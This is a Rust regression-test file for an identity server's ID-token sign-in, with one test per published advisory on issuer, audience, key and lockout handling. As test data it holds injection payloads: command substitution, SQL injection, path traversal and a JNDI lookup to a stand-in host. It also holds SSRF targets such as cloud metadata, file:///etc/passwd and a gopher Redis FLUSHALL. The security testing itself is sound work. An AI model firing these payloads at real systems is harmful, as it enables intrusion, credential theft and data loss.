//! One test for each published advisory or attack of the field that this server could repeat. The name begins with
//! its number, or with the project and issue where it has none.
//!
//! What concerns MFA, sessions, scripts, groups and plugins stands beside those: `tests/it/mfa`, `session`,
//! `sign_in/risk.rs`, `sign_in/linking.rs`.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use aws_lc_rs::hmac;
use countersign::clock::UnixTime;
use countersign::config;
use countersign::mfa::totp::code_at;
use countersign::secret::Secret;
use data_encoding::BASE64URL_NOPAD;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::admin::Role;
use crate::support::issuer::{TestIssuer, TestKey, TokenBuilder, shared_rsa};
use crate::support::service::{Answer, JsonBody, Service, Setup};
use crate::support::wire::{DISCOVERY, KEYS, Wire, WireIssuer};

fn victim(token: TokenBuilder) -> TokenBuilder {
    token.claim("email", "victim@example.com").claim("email_verified", true)
}

async fn unnamed(service: &Service, token: &str) -> Answer {
    service.post("/auth/id-token/signin", json!({"id_token": token})).await
}

async fn named(service: &Service, provider: &str, token: &TokenBuilder) -> Answer {
    service.post("/auth/id-token/signin", json!({"id_token": token.sign(), "provider": provider})).await
}

/// Further tables of the configuration, with `$ISSUER` for the address of the test issuer.
async fn configured(tables: &str) -> Service {
    let service = Service::start().await;
    let more_config = tables.replace("$ISSUER", &service.issuer.url);
    service.restart(Setup { more_config, ..Setup::default() }).await
}

#[tokio::test]
async fn cve_2026_31813_a_foreign_issuer_with_a_named_provider_is_refused_and_never_contacted() {
    let service = Service::start_with(Setup::provider("linking = \"verified_email\"")).await;
    service.sign_in(&victim(service.issuer.token()).sign()).await.signed_in();
    let foreign = TestIssuer::start(service.clock.clone()).await;
    let key = Arc::new(TestKey::new_rsa());
    foreign.rotate_to(vec![("rsa-1", Arc::clone(&key)), ("evil", Arc::clone(&key))]);
    let token = |kid: &str| victim(foreign.token()).subject("attacker").key("RS256", kid, &key);
    service.sign_in(&token("rsa-1").sign()).await.expect(401, "id_token_signature_invalid");
    service.sign_in(&token("evil").sign()).await.expect(401, "unknown_key");
    unnamed(&service, &token("evil").sign()).await.expect(401, "no_provider_fits");
    let disguised = token("evil").header("jku", format!("{}/jwks", foreign.url));
    service.sign_in(&disguised.sign()).await.expect(401, "id_token_header_refused");
    assert_eq!(foreign.fetches.load(Ordering::SeqCst), 0, "the token's own issuer was asked");
}

/// Also for a token that the right keys signed: two issuers may share them.
#[tokio::test]
async fn cve_2026_31813_an_issuer_is_compared_whole_and_never_taken_from_the_token() {
    let service = Service::start().await;
    let url = service.issuer.url.clone();
    for issuer in [format!("{url}/"), format!("{url}.evil.example"), url.to_uppercase(), format!("{url}#x")] {
        let token = service.issuer.token().claim("iss", issuer.as_str()).sign();
        service.sign_in(&token).await.expect(401, "id_token_issuer_mismatch");
        unnamed(&service, &token).await.expect(401, "no_provider_fits");
    }
}

fn load(provider: &str) -> Result<config::Settings, String> {
    let dir = TempDir::new().unwrap();
    let file = dir.path().join("countersign.toml");
    let text = format!("[server]\npublic_url = \"https://id.example\"\n[[tenants]]\nid = \"default\"\n{provider}");
    std::fs::write(&file, text).unwrap();
    config::load(&file, std::iter::empty()).map_err(|e| e.to_string())
}

#[tokio::test]
async fn cve_2026_30863_a_provider_without_client_ids_is_no_configuration() {
    let provider = |ids: &str| {
        format!("[[providers]]\ntenant = \"default\"\nname = \"g\"\nissuer = \"https://a.example\"\n{ids}\n")
    };
    load(&provider("client_ids = [\"one\"]")).unwrap();
    for ids in ["client_ids = []", "", "client_ids = [\"\"]", "client_ids = [\" \"]"] {
        let error = load(&provider(ids)).expect_err(ids);
        assert!(error.contains("client_ids"), "{ids}: {error}");
    }
    // One that is being prepared may wait for its client ids; it is no provider until then.
    assert!(load(&provider("enabled = false\nclient_ids = []")).unwrap().providers.is_empty());
    let service = Service::start().await;
    let other = service.issuer.token().claim("aud", "another-application").sign();
    service.sign_in(&other).await.expect(401, "id_token_audience_mismatch");
    // Nor is it over the API.
    let editor = service.admin_key(Role::Editor, Some("default")).await;
    for ids in [json!([]), json!([""])] {
        let settings = json!({"issuer": service.issuer.url, "client_ids": ids});
        let body = json!({"name": "empty", "settings": settings});
        service.post_with("/admin/providers", &editor, body).await.expect(400, "invalid_settings");
    }
    let prepared = json!({"issuer": service.issuer.url, "client_ids": [], "enabled": false});
    let body = json!({"name": "later", "settings": prepared});
    assert_eq!(service.post_with("/admin/providers", &editor, body).await.status, 200);
    let enabled = service.post_with("/admin/providers/later/enable", &editor, json!({})).await;
    assert_eq!(enabled.status / 100, 4, "{}", enabled.text);
}

#[tokio::test]
async fn cve_2026_55669_a_token_for_another_client_of_the_same_issuer_is_refused_on_every_path() {
    let service = configured(
        "[[providers]]\ntenant = \"default\"\nname = \"twin\"\nissuer = \"$ISSUER\"\nclient_ids = [\"app-twin\"]\n",
    )
    .await;
    for audience in [json!("app-evil"), json!(["app-evil", "app-other"]), json!("APP-WEB"), json!("app-web\u{0}")] {
        let token = service.issuer.token().claim("aud", audience);
        service.sign_in(&token.sign()).await.expect(401, "id_token_audience_mismatch");
        named(&service, "twin", &token).await.expect(401, "id_token_audience_mismatch");
        unnamed(&service, &token.sign()).await.expect(401, "no_provider_fits");
    }
    // Of two providers of one issuer each takes its own clients' tokens alone.
    let twin = service.issuer.token().claim("aud", "app-twin");
    service.sign_in(&twin.sign()).await.expect(401, "id_token_audience_mismatch");
    unnamed(&service, &twin.sign()).await.signed_in();
}

/// The audience is configuration: nothing in a request widens it.
#[tokio::test]
async fn keycloak_51000_a_request_cannot_name_the_audience_that_it_is_checked_against() {
    let service = Service::start().await;
    let token = service.issuer.token().claim("aud", "app-evil").sign();
    for member in ["client_id", "audience", "aud", "client_ids", "issuer"] {
        let mut body = json!({"id_token": token, "provider": "acme"});
        body[member] = json!("app-evil");
        service.post("/auth/id-token/signin", body).await.expect(401, "id_token_audience_mismatch");
    }
}

#[tokio::test]
async fn cve_2026_1486_a_disabled_provider_is_refused_on_every_path() {
    let service = Service::start().await;
    service.sign_in(&service.issuer.token().sign()).await.signed_in();
    let service = service.restart(Setup::provider("enabled = false")).await;
    let before = service.issuer.fetches.load(Ordering::SeqCst);
    service.sign_in(&service.issuer.token().sign()).await.expect(403, "provider_disabled");
    unnamed(&service, &service.issuer.token().sign()).await.expect(403, "provider_disabled");
    assert_eq!(service.issuer.fetches.load(Ordering::SeqCst), before, "its keys were asked for");
}

#[tokio::test]
async fn ghsa_7qjx_gp9h_65qj_a_provider_of_another_tenant_is_refused_before_any_look_up() {
    let service = Service::start().await;
    for provider in [Some("acme"), None] {
        let mut body = json!({"id_token": service.issuer.token().sign()});
        if let Some(provider) = provider {
            body["provider"] = provider.into();
        }
        let request = service.http().post(service.url("/auth/id-token/signin")).json(&body);
        let answer = service.send(request.header("x-tenant-id", "other")).await;
        let expected = if provider.is_some() { (404, "unknown_provider") } else { (401, "no_provider_fits") };
        assert_eq!((answer.status, answer.error()), expected);
    }
    assert_eq!(service.issuer.fetches.load(Ordering::SeqCst), 0);
}

const ENTRA: &str = "[[providers]]\ntenant = \"default\"\nname = \"entra\"\nissuer = \"$ISSUER/{tenantid}/v2.0\"\n\
    allowed_tenant_ids = [\"t-1\"]\nclient_ids = [\"app-web\"]\njwks_uri = \"$ISSUER/jwks\"\nmapping = \"microsoft\"\n\
    linking = \"verified_email\"\n";

fn entra(service: &Service, tid: &str, edov: Option<Value>) -> TokenBuilder {
    let token = service.issuer.token().claim("iss", format!("{}/{tid}/v2.0", service.issuer.url)).claim("tid", tid);
    let token = victim(token).subject("mallory");
    edov.map_or(token.clone(), |edov| token.claim("xms_edov", edov))
}

#[tokio::test]
async fn cve_2023_3128_an_address_that_an_entra_directory_wrote_links_to_nobody() {
    let service = configured(ENTRA).await;
    let owner = service.sign_in(&victim(service.issuer.token()).sign()).await;
    owner.signed_in();
    // `email_verified: true` is what the attacker's directory may say as well; only `xms_edov` counts.
    for edov in
        [None, Some(json!(false)), Some(json!("0")), Some(json!("")), Some(json!(null)), Some(json!([true]))]
    {
        let answer = named(&service, "entra", &entra(&service, "t-1", edov.clone())).await;
        answer.expect(409, "account_exists");
    }
    named(&service, "entra", &entra(&service, "t-evil", Some(json!(true))))
        .await
        .expect(401, "id_token_tenant_not_allowed");
    let linked = named(&service, "entra", &entra(&service, "t-1", Some(json!("1")))).await;
    assert_eq!(linked.signed_in()["user_id"], owner.body["user_id"]);
}

#[tokio::test]
async fn cve_2025_65431_a_claim_that_its_owner_can_change_identifies_nobody() {
    let service = Service::start().await;
    let told = |t: TokenBuilder| t.claim("preferred_username", "ada").claim("upn", "ada@corp.example");
    let ada = service.sign_in(&told(service.issuer.token()).sign()).await;
    let mallory = service.sign_in(&told(service.issuer.token().subject("mallory")).sign()).await;
    assert_ne!(ada.signed_in()["user_id"], mallory.signed_in()["user_id"]);
    let dir = TempDir::new().unwrap();
    for call in
        ["out.subject(s.claims.str(\"preferred_username\"));", "out.issuer(\"x\");", "out.user_id(\"usr_1\");"]
    {
        let script = format!("fn map(s, out) {{ {call} }}");
        let setup = Setup::with_policies(dir.path(), &[("mapping/acme.rhai", script.as_str())]);
        let service = Service::start_with(setup).await;
        service.sign_in(&told(service.issuer.token()).sign()).await.expect(403, "mapping_failed");
    }
}

#[tokio::test]
async fn google_domain_reuse_the_same_address_and_domain_with_a_new_subject_is_not_the_former_user() {
    for linking in ["never", "verified_email"] {
        let setup = Setup::provider(&format!("linking = \"{linking}\"\nmapping = \"google\""));
        let service = Service::start_with(setup).await;
        let of_domain = |subject: &str| victim(service.issuer.token().subject(subject)).claim("hd", "example.com");
        let former = service.sign_in(&of_domain("former-employee").sign()).await;
        former.signed_in();
        let newcomer = service.sign_in(&of_domain("new-owner").sign()).await;
        assert_ne!(newcomer.body["user_id"], former.body["user_id"], "linking = {linking}: {}", newcomer.text);
        newcomer.expect(409, "account_exists");
    }
}

#[tokio::test]
async fn cve_2026_25537_a_time_of_another_type_is_never_taken_for_absent() {
    let service = Service::start().await;
    let now = service.clock.now_s();
    let values = [
        json!((now + 300).to_string()),
        json!("never"),
        json!(now as f64 + 0.5),
        json!(1e300),
        json!(-1),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(null),
        json!(true),
        json!([now]),
        json!({"t": now}),
    ];
    for claim in ["exp", "nbf", "iat", "auth_time"] {
        for value in &values {
            let answer = service.sign_in(&service.issuer.token().claim(claim, value.clone()).sign()).await;
            let seen = (answer.status, answer.error());
            assert_eq!(seen, (401, "id_token_claim_invalid"), "{claim} = {value}: {}", answer.text);
        }
    }
}

#[tokio::test]
async fn cve_2026_29000_no_wrapper_around_a_token_is_opened() {
    let service = Service::start().await;
    let encode = |text: &str| BASE64URL_NOPAD.encode(text.as_bytes());
    let unsigned = service.issuer.token().header("alg", "none").with_signature(b"");
    let wrapped = format!("{}.AAAA.AAAA.{}.AAAA", encode(r#"{"alg":"dir","enc":"A256GCM"}"#), encode(&unsigned));
    service.sign_in(&wrapped).await.expect(401, "id_token_encrypted");
    let nested = service.issuer.token().header("cty", "JWT").raw_claims(unsigned.clone());
    service.sign_in(&nested.sign()).await.expect(401, "id_token_header_refused");
    let silent = service.issuer.token().raw_claims(unsigned.clone());
    service.sign_in(&silent.sign()).await.expect(400, "malformed_id_token");
    let quoted = service.issuer.token().raw_claims(format!("\"{unsigned}\""));
    service.sign_in(&quoted.sign()).await.expect(400, "malformed_id_token");
    assert_eq!(service.issuer.fetches.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn an_rsa_key_set_used_as_a_shared_secret_in_any_spelling_opens_nothing() {
    let service = Service::start().await;
    let jwk = shared_rsa().jwk("rsa-1");
    let secrets = [jwk.to_string(), jwk["n"].as_str().unwrap().to_owned(), json!({"keys": [jwk]}).to_string()];
    for secret in secrets {
        let key = hmac::Key::new(hmac::HMAC_SHA256, secret.as_bytes());
        for alg in ["HS256", "hs256", "HS256 ", "RS256"] {
            let token = service.issuer.token().header("alg", alg);
            let tag = hmac::sign(&key, token.signing_input().as_bytes());
            let answer = service.sign_in(&token.with_signature(tag.as_ref())).await;
            assert_eq!(answer.status, 401, "{alg}: {}", answer.text);
        }
    }
}

#[tokio::test]
async fn a_key_id_is_a_name_and_nothing_else() {
    let service = Service::start().await;
    service.sign_in(&service.issuer.token().sign()).await.signed_in();
    let before = service.issuer.fetches.load(Ordering::SeqCst);
    for kid in [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "rsa-1' OR '1'='1",
        "x' UNION SELECT 'secret",
        "http://169.254.169.254/latest/meta-data",
        "rsa-1\u{0}",
        "rsa-1 ",
        "RSA-1",
        "$(id)",
        "${jndi:ldap://evil.example/x}",
        "",
    ] {
        let answer = service.sign_in(&service.issuer.token().header("kid", kid).sign()).await;
        assert_eq!((answer.status, answer.error()), (401, "unknown_key"), "{kid:?}: {}", answer.text);
    }
    assert_eq!(service.issuer.fetches.load(Ordering::SeqCst), before, "all within the cool-down");
}

#[tokio::test]
async fn ghsa_3529_5m8x_rpv3_forged_host_headers_never_reach_a_token() {
    let service = Service::start().await;
    let body = json!({"id_token": service.issuer.token().sign(), "provider": "acme"});
    let request = service.http().post(service.url("/auth/id-token/signin")).json(&body);
    let request = request.header("x-forwarded-host", "evil.example").header("forwarded", "host=evil.example");
    let answer =
        service.send(request.header("x-forwarded-proto", "https").header("x-original-host", "evil.example")).await;
    let access = answer.signed_in()["access_token"].as_str().unwrap();
    let claims = BASE64URL_NOPAD.decode(access.split('.').nth(1).unwrap().as_bytes()).unwrap();
    let claims: Value = serde_json::from_slice(&claims).unwrap();
    assert_eq!(
        (&claims["iss"], &claims["aud"]),
        (&json!("http://127.0.0.1:8080"), &json!("http://127.0.0.1:8080"))
    );
    assert!(!answer.text.contains("evil.example"));
}

#[tokio::test]
async fn cve_2025_61928_a_user_named_in_the_body_is_never_listened_to() {
    let service = Service::start().await;
    let owner = service.sign_in(&service.issuer.token().sign()).await.signed_in().clone();
    for member in ["user_id", "sub", "user", "email", "tenant_id"] {
        let mut body = json!({"id_token": service.issuer.token().subject("mallory").sign(), "provider": "acme"});
        body[member] = owner["user_id"].clone();
        let answer = service.post("/auth/id-token/signin", body).await;
        assert_ne!(answer.body["user_id"], owner["user_id"], "{member}: {}", answer.text);
    }
}

/// Discovery is written by whoever runs the issuer; so is `jwks_uri`.
#[tokio::test]
async fn ssrf_in_discovery_no_document_leads_this_server_into_its_own_network() {
    let issuer = WireIssuer::start().await;
    let service = Service::start_with(issuer.setup()).await;
    let inner = WireIssuer::start().await;
    let port = inner.url.rsplit(':').next().unwrap().to_owned();
    for address in [
        "http://169.254.169.254/latest/meta-data".to_owned(),
        "https://169.254.169.254/keys".to_owned(),
        "https://metadata.google.internal/keys".to_owned(),
        "https://10.0.0.1/keys".to_owned(),
        "https://192.168.1.1/keys".to_owned(),
        "https://[fd00:ec2::254]/keys".to_owned(),
        format!("https://[::ffff:127.0.0.1]:{port}/keys"),
        format!("http://[::ffff:127.0.0.1]:{port}/keys"),
        format!("http://0.0.0.0:{port}/keys"),
        "https://0x7f.1/keys".to_owned(),
        format!("http://user:secret@127.0.0.1:{port}/keys"),
        "file:///etc/passwd".to_owned(),
        "gopher://127.0.0.1:6379/_FLUSHALL".to_owned(),
        "/keys".to_owned(),
        String::new(),
    ] {
        for by_redirect in [false, true] {
            if by_redirect && address == "/keys" {
                continue; // As a redirect it is a place at the issuer itself.
            }
            service.clock.advance(Duration::from_secs(61));
            let uri = if by_redirect { issuer.path("/moved") } else { address.clone() };
            issuer.set("/moved", Wire::redirect(&address));
            issuer.set(DISCOVERY, Wire::json(&json!({"issuer": issuer.url, "jwks_uri": uri})));
            let answer = named(&service, "wire", &issuer.token(&service)).await;
            answer.expect(503, "provider_unavailable");
            assert!(!answer.text.contains(&port) && !answer.text.contains("169.254"), "{}", answer.text);
        }
    }
    assert_eq!(inner.fetches(), 0);
    service.clock.advance(Duration::from_secs(61));
    issuer.set(DISCOVERY, Wire::json(&json!({"issuer": issuer.url, "jwks_uri": issuer.path(KEYS)})));
    named(&service, "wire", &issuer.token(&service)).await.signed_in();
}

/// The build cannot go back to a library with the holes of CVE-2026-25537.
#[test]
fn the_signature_library_is_newer_than_its_advisories_and_the_linter_keeps_it_so() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let lock = std::fs::read_to_string(root.join("Cargo.lock")).unwrap();
    let versions: Vec<&str> = lock
        .split("[[package]]")
        .filter(|package| package.contains("\nname = \"jsonwebtoken\"\n"))
        .filter_map(|package| package.lines().find_map(|l| l.strip_prefix("version = ")))
        .collect();
    assert!(versions.len() == 1 && versions[0].trim_matches('"').starts_with("11."), "{versions:?}");
    let deny = std::fs::read_to_string(root.join("deny.toml")).unwrap();
    assert!(deny.contains(r#"name = "jsonwebtoken", version = "<11""#));
}

fn code(service: &Service, secret: &Secret) -> String {
    code_at(secret, UnixTime::from_secs(service.clock.now_s())).unwrap()
}

async fn enrolled(service: &Service, subject: &str) -> Secret {
    let answer = service.sign_in(&service.issuer.token().subject(subject).sign()).await;
    let access = answer.signed_in()["access_token"].as_str().unwrap().to_owned();
    let begun = service.post_with("/auth/me/mfa/totp", &access, json!({})).await.body;
    let secret = data_encoding::BASE32_NOPAD.decode(begun["secret"].as_str().unwrap().as_bytes()).unwrap();
    let secret = Secret::new(secret);
    let confirm = json!({"factor_id": begun["factor_id"], "code": code(service, &secret)});
    assert_eq!(service.post_with("/auth/me/mfa/totp/confirm", &access, confirm).await.status, 200);
    secret
}

async fn answer_challenge(service: &Service, subject: &str, code: &str) -> Answer {
    let challenge = service.sign_in(&service.issuer.token().subject(subject).sign()).await;
    let token = challenge.challenged()["challenge_token"].clone();
    service.post("/auth/mfa/verify-challenge", json!({"challenge_token": token, "code": code})).await
}

#[tokio::test]
async fn django_allauth_65_8_1_the_success_of_one_user_does_not_forgive_anothers_failures() {
    let dir = TempDir::new().unwrap();
    let demand = r#"fn assess(s, risk) { if s.history.sign_ins_total > 0 { risk.require_mfa("new_device"); } }"#;
    let setup = Setup::with_policies(dir.path(), &[("risk/_default.rhai", demand)]);
    let service = Service::start_with(setup).await;
    let (ada, _bob) = (enrolled(&service, "ada").await, enrolled(&service, "bob").await);
    service.clock.advance(Duration::from_secs(60));
    for _ in 0..9 {
        answer_challenge(&service, "bob", "000000").await.expect(400, "invalid_mfa_code");
    }
    answer_challenge(&service, "ada", &code(&service, &ada)).await.signed_in();
    answer_challenge(&service, "bob", "000000").await;
    answer_challenge(&service, "bob", "000000").await.expect(429, "mfa_locked");
}
